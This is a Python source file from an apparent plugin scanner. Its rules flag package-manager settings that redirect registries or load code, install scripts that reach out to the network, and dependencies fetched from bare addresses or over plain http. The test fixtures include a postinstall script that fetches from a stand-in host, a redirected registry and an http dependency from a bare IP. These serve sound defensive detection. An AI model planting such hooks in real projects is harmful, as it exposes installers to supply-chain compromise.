"""Files of package managers that a plugin brings: settings that redirect an install, scripts that run at one."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

from scan.model import Severity, Standing
from scan.reaching import REACHES
from scan.rules.base import Seen, rule, weighed
from scan.rules.known import host_kind, host_of, is_local, is_plain_http

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text

REGISTRIES = (
    "npmjs.org",
    "npmjs.com",
    "yarnpkg.com",
    "npm.pkg.github.com",
    "jsr.io",
    "pypi.org",
    "pythonhosted.org",
    "crates.io",
)
_LOADS = re.compile(
    r"(?m)^\s*(?:yarnPath|yarn-path|plugins|onload-script|node-options|script-shell|git|globalconfig|init-module|pnpmfile|shell-emulator)\s*[:=]\s*(.+)$"
)
_REGISTRY = re.compile(
    r"(?m)^\s*(?:(?:@[\w.-]+:)?registry|npmRegistryServer|(?:--)?(?:extra-)?index-url|(?:extra_)?index_url|default-index|replace-with)\s*[:=\s]\s*[\"']?(\S+?)[\"']?\s*$"
)


_NAMES = re.compile(
    r"\.?npmrc(?:\.\w+)?|\.?yarnrc(?:\.yml)?|pip\.(?:conf|ini)|\.?pnpmfile\.cjs|bunfig\.toml|uv\.toml|(?:requirements|constraints)[\w.-]*\.txt|(?:[\w-]*cargo[\w-]*|config)\.toml|[\w-]*cargo-config\.toml"
)
"""Files that tell package managers where packages come from."""


@rule(
    "package-settings",
    "caution",
    flags=(
        {".npmrc": "registry=https://registry.collect.example/\n"},
        {".yarnrc.yml": "yarnPath: ./.yarn/x.cjs\n"},
        {".npmrc": "script-shell=./run.sh\n"},
    ),
    clears=(
        {".npmrc": "save-exact=true\nregistry=https://registry.npmjs.org/\n"},
        {".yarnrc.yml": "nodeLinker: node-modules\n"},
    ),
)
def package_settings(text: Text, plugin: Plugin) -> Iterator[Seen]:
    """Settings of npm, yarn, pnpm or pip in the plugin's folder that load code or fetch packages from elsewhere.

    Why: whoever runs the package manager there, a scanner too, runs that code or gets those packages.

    Remedy: take the file out, or read where it points.
    """
    name = plugin.local(text.path).rsplit("/", 1)[-1].lower()
    if not _NAMES.fullmatch(name) or text.standing is Standing.test:
        return
    if name.endswith("config.toml") and "[source" not in text.text:
        return
    match = _LOADS.search(text.text)
    if match and not (name == ".yarnrc.yml" and re.search(r"\.yarn/releases/yarn-[\d.]+\.cjs", match[1])):
        severity = weighed(Severity.caution, text.standing)
        yield Seen("loads code into every run of the package manager", text, match.start(), match.end(), severity)
    for found in _REGISTRY.finditer(text.text):
        host = host_of(found[1])
        if "." in host and not is_local(host) and not host.endswith(REGISTRIES):
            grave = bool(host_kind(found[1])) or is_plain_http(found[1])
            yield Seen(
                f"packages are fetched from {host}",
                text,
                found.start(),
                found.end(),
                weighed(Severity.danger if grave else Severity.caution, text.standing),
            )
    if name == ".pnpmfile.cjs" and re.search(r"child_process|https?://|execSync", text.text):
        yield Seen("starts programs in every run of the package manager", text, 0, 1)


@rule(
    "lifecycle-acts",
    "caution",
    over="plugin",
    flags={
        "package.json": '{"name": "a", "scripts": {"postinstall": "node -e \\"require(\'https\').get(\'https://x.example/p\')\\""}}'
    },
    clears=(
        {"package.json": '{"name": "a", "scripts": {"postinstall": "patch-package", "test": "vitest"}}'},
        {"package.json": '{"name": "a", "scripts": {"postinstall": "echo \'See https://a.example/docs\'"}}'},
        {
            "package.json": '{"name": "a", "scripts": {"prepare": "node -e \\"import(\'node:fs\').then(f=>{if(!f.existsSync(\'content\'))console.log(\'no content yet\')})\\" || exit 0"}}'
        },
    ),
)
def lifecycle_acts(plugin: Plugin, _: Plugin) -> Iterator[Seen]:
    """A package script that runs at install and reaches out, or starts an inline program.

    Why: an install is all it takes.

    Remedy: install with scripts switched off; read what it does.
    """
    for run in plugin.runs:
        if run.kind == "lifecycle" and REACHES.search(run.text) and not _says_or_looks(run.text):
            yield Seen(
                f"{run.name or run.when} reaches out at install: {run.shown[:120]}",
                path=run.path,
                line=run.line,
                shown=run.shown,
            )


def _says_or_looks(text: str) -> bool:
    """Whether a script only prints, or looks with an inline program whether a file is there, and prints."""
    if _ONLY_SAYS.fullmatch(text):
        return True
    inline = _INLINE.fullmatch(text)
    return (
        inline is not None and not _BEYOND.search(inline["code"]) and set(_CALLED.findall(inline["code"])) <= _HARMLESS
    )


_INLINE = re.compile(
    r"""\s*node\s+(?:-e|--eval)\s+(?P<quote>["'])(?P<code>(?:(?!(?P=quote))[^\\`$])*)(?P=quote)\s*(?:\|\|\s*(?:exit\s+0|true))?\s*"""
)
_CALLED = re.compile(r"([\w$.]+)\s*\(")
_BEYOND = re.compile(
    r"""\[|\)\s*\(|\b(?:import|require)\s*\(\s*(?!['"](?:node:)?(?:fs|path)['"])|https?:|=\s*(?:eval|Function|require)\b"""
)
"""Another name for a function, another module, an address."""
_HARMLESS = frozenset(
    {"import", ".then", "if", "require", "console.log", "console.error", "console.warn", "process.exit"}
) | {f"{name}.existsSync" for name in ("f", "fs", "", "m")}
_ONLY_SAYS = re.compile(r"""\s*(?:echo|printf)(?:\s+-\w+)*\s+(?:'[^']*'|"[^"$`]*")\s*""")


@rule(
    "dependency-elsewhere",
    "caution",
    flags={"package.json": '{"name": "a", "dependencies": {"helper": "http://198.51.100.4/helper.tgz"}}'},
    clears={"package.json": '{"name": "a", "dependencies": {"zod": "^3.0.0", "lib": "github:acme/lib"}}'},
)
def dependency_elsewhere(text: Text, plugin: Plugin) -> Iterator[Seen]:
    """A dependency that is fetched from a bare address, a tunnel or over plain http.

    Why: whoever holds the place, or the way to it, decides what is installed.

    Remedy: take it from the registry, with its checksum in the lock file.
    """
    name = plugin.local(text.path).rsplit("/", 1)[-1]
    if (
        name not in {"package.json", "requirements.txt", "pyproject.toml"}
        or "://" not in text.text
        or text.standing in {Standing.test, Standing.example}
    ):
        return
    for url in _declared_urls(name, text.text):
        kind = host_kind(url) or ("plain http" if is_plain_http(url) else "")
        if kind:
            place = max(text.text.find(url), 0)
            yield Seen(f"a dependency from {kind}: {url}", text, place, place + len(url))


def _declared_urls(name: str, source: str) -> Iterator[str]:
    if name != "package.json":
        yield from (
            re.findall(
                r"(?m)(?:^|@\s*|=\s*[\"']|^--?(?:extra-)?(?:index-url|find-links)[ =]\s*|^-[if]\s+)((?:git\+)?https?://[^\s\"',;#]+)",
                source,
            )
            if name == "requirements.txt"
            else ()
        )
        return
    try:
        declared = json.loads(source)
    except (ValueError, RecursionError):
        return
    for key in ("dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "overrides"):
        for value in (
            (declared.get(key) or {}).values()
            if isinstance(declared, dict) and isinstance(declared.get(key), dict)
            else ()
        ):
            if isinstance(value, str) and "://" in value:
                yield value.removeprefix("git+")


RULES = (package_settings, lifecycle_acts, dependency_elsewhere)
